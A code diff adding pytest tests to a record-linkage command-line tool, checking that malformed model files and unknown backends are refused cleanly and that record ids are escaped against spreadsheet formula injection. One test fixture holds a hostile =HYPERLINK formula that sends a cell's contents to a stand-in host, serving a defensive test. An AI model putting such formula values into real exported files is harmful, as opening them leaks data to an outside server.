@@ -304,3 +304,97 @@ def test_an_output_that_is_a_pipe_is_refused_not_replaced(
     )
     assert result.exit_code == 4 and "is not a regular file" in result.output
     assert pipe.is_fifo(), "the pipe is still a pipe"
+
+
+def test_training_for_dedupe_on_a_small_list_writes_a_model(
+    app: typer.Typer, small_files: Path, tmp_path: Path
+) -> None:
+    # Within a few hundred records every likely duplicate agrees on its surname and place,
+    # so EM estimated "different surname" among matches as exactly 0, which Splink refuses
+    # (a ValueError traceback); such a level now gets the same small floor as an unseen one.
+    model = tmp_path / "model.json"
+    result = _invoke(app, "link", "train", str(small_files / "family.csv"), "--out", str(model))
+    assert result.exit_code == 0, result.output
+    parameters = load_parameters(model)
+    assert all(0 < level.m <= 1 for levels in parameters.levels.values() for level in levels)
+
+
+@pytest.mark.parametrize(
+    ("make", "message"),
+    [
+        (lambda p: p.write_text("[" * 100_000, encoding="utf-8"), "nested too deeply"),
+        (lambda p: p.write_bytes(b" " * 1_000_001), "over 1,000,000 bytes"),
+        (lambda p: __import__("os").mkfifo(p), "it is not a file"),
+    ],
+    ids=["nested", "huge", "pipe"],
+)
+def test_a_hostile_model_file_is_refused_in_one_line(
+    app: typer.Typer, small_files: Path, tmp_path: Path, make: Any, message: str
+) -> None:
+    # Nested arrays were a RecursionError traceback; a pipe or /dev/zero was read forever.
+    model = tmp_path / "model.json"
+    make(model)
+    out = tmp_path / "pairs.csv"
+    result = _invoke(
+        app,
+        "link",
+        str(small_files / "family.csv"),
+        str(small_files / "registry.csv"),
+        "--out",
+        str(out),
+        "--model",
+        str(model),
+    )
+    assert result.exit_code == 4, result.output
+    assert message in result.output and "Traceback" not in result.output
+    assert not out.exists()
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        ["link", "{left}", "{left}", "--out", "{out}"],
+        ["link", "train", "{left}"],
+        ["dedupe", "{left}"],
+    ],
+)
+def test_an_unknown_backend_is_refused_before_the_lists_are_read(
+    app: typer.Typer, tmp_path: Path, command: list[str]
+) -> None:
+    # It was found only after reading and normalising both lists (seconds to minutes).
+    missing, out = tmp_path / "missing.csv", tmp_path / "o.csv"
+    args = [part.format(left=missing, out=out) for part in command]
+    if "--out" not in args:
+        args += ["--out", str(out)]
+    result = _invoke(app, *args, "--backend", "sparc")
+    assert result.exit_code == 4, result.output
+    assert "unknown backend 'sparc'" in result.output and "cannot read" not in result.output
+
+
+def test_record_ids_that_a_spreadsheet_would_run_are_written_as_text(
+    app: typer.Typer, tmp_path: Path
+) -> None:
+    # A hostile list's ids went into pairs.csv and clusters.csv verbatim: =HYPERLINK(...)
+    # ran when a caseworker opened the file in a spreadsheet.
+    family, registry = tmp_path / "family.csv", tmp_path / "registry.csv"
+    family.write_text(
+        HEADER + '"=HYPERLINK(""http://x/?""&B2)",Олександр,Шевченко,Петрович,M,2012-03-14,Херсон\n'
+        "@SUM(1),Марія,Коваль,Іванівна,F,2015-07-01,Маріуполь\n",
+        encoding="utf-8",
+    )
+    registry.write_text(
+        HEADER + "+1,Aleksandr,Shevchenko,Petrovich,M,14.03.2012,Kherson\n"
+        "-2+3,Maria,Koval,Ivanivna,F,2015-07-01,Mariupol\n",
+        encoding="utf-8",
+    )
+    pairs, clusters = tmp_path / "pairs.csv", tmp_path / "clusters.csv"
+    linked = _invoke(app, "link", str(family), str(registry), "--out", str(pairs))
+    assert linked.exit_code == 0, linked.output
+    deduped = _invoke(app, "dedupe", str(family), "--out", str(clusters))
+    assert deduped.exit_code == 0, deduped.output
+    with pairs.open(encoding="utf-8", newline="") as handle:
+        found = {(row["left_id"], row["right_id"]) for row in csv.DictReader(handle)}
+    assert found == {('\'=HYPERLINK("http://x/?"&B2)', "'+1"), ("'@SUM(1)", "'-2+3")}
+    with clusters.open(encoding="utf-8", newline="") as handle:
+        cells = [cell for row in csv.reader(handle) for cell in row[:2]][2:]
+    assert cells and all(cell.startswith("'") for cell in cells)
